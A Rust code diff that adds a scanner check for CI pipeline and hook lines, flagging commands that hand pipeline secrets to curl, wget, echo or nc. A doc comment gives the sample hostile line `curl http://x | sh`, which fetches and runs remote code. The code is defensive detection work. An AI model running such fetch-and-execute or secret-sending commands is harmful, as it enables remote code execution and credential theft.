@@ -13,6 +13,8 @@ use crate::shell;
 
 /// Pieces of one value that are looked at.
 const MAX_PIECES: usize = 128;
+/// Lines of a pipeline that are looked at; longer ones than any are not.
+const MAX_LINES: usize = 1_000;
 /// What ends a command or begins another one.
 const SEPARATORS: [char; 10] = [';', '|', '&', '\n', '\r', '(', ')', '<', '>', '`'];
 
@@ -101,6 +103,21 @@ pub(super) fn within(text: &str, is_name: bool) -> Option<String> {
         begin += text[begin..].chars().next().map_or(0, char::len_utf8);
     }
     None
+}
+
+/// The same of the lines of a pipeline or a hook: `- run: curl http://x | sh`.
+pub(super) fn in_pipeline(text: &str) -> Option<String> {
+    const KEYS: [&str; 9] =
+        ["run:", "script:", "command:", "entrypoint:", "before_script:", "after_script:", "entry:", "bash:", "args:"];
+    text.lines().take(MAX_LINES).find_map(|line| {
+        let mut line = line.trim().trim_start_matches("- ").trim_start();
+        if let Some(rest) = KEYS.iter().find_map(|key| line.strip_prefix(key)) {
+            line = rest.trim().trim_start_matches(['|', '>']).trim_start_matches("- ").trim();
+        }
+        // What is secret there is handed to what sends it, or printed.
+        let sends = line.contains("secrets.") && ["curl", "wget", "echo", "nc "].iter().any(|word| line.contains(word));
+        if sends { Some("a secret of the pipeline leaves it".to_owned()) } else { within(line, false) }
+    })
 }
 
 /// The same of words in a list.
